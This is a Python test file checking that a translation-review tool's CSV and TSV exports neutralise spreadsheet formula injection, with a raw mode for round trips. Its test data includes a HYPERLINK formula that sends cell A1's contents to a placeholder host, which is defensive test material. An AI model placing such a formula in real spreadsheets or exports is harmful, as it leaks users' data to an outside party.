"""CSV/TSV exports neutralise spreadsheet formulas from web text (OWASP "CSV injection"),
and --csv-raw keeps the cells as they are for round trips (issue 15)."""

import csv

import pytest
from typer.testing import CliRunner

from translate.cli.main import app
from translate.report.export import csv_cell

runner = CliRunner()

EVIL = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik hier")',
    "+31 20 123 4567 is het nummer van de redactie",
    "-2+3 is geen gewone zin",
    "@SUM(1+1) staat in de kop",
]


@pytest.mark.parametrize("text", EVIL + ["\tgetabd", "\rcarriage"])
def test_formula_starts_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, raw=True) == text


@pytest.mark.parametrize("text", ["Gewone zin.", "'al geciteerd", "3 = drie", ""])
def test_plain_text_is_left_alone(text):
    assert csv_cell(text) == text


def _rows(path, dialect):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh, dialect=dialect))


def test_review_exports_neutralised_by_default_and_raw_on_request(tmp_path):
    src = tmp_path / "vi.txt"
    nl = tmp_path / "nl.txt"
    src.write_text("Đây là câu đầu tiên của bài báo.\n\n" + "\n\n".join(EVIL) + "\n", encoding="utf-8")
    nl.write_text("Dit is de eerste zin van het artikel.\n\n" + "\n\n".join(EVIL) + "\n", encoding="utf-8")
    args = ["review", str(src), str(nl), "--no-model", "--quiet", "--fail-on", "never"]
    r = runner.invoke(app, args + ["--csv", str(tmp_path / "o.csv"), "--tsv", str(tmp_path / "o.tsv")])
    assert r.exit_code == 0, r.output
    for path, dialect in ((tmp_path / "o.csv", "excel"), (tmp_path / "o.tsv", "excel-tab")):
        rows = _rows(path, dialect)
        cells = [row[k] for row in rows for k in ("source", "rendering", "reference", "messages")]
        assert not [c for c in cells if c[:1] in "=+-@\t\r" and c], path
        assert "'" + EVIL[0] in {row["rendering"] for row in rows}
    r = runner.invoke(app, args + ["--csv", str(tmp_path / "raw.csv"), "--csv-raw"])
    assert r.exit_code == 0, r.output
    assert EVIL[0] in {row["rendering"] for row in _rows(tmp_path / "raw.csv", "excel")}
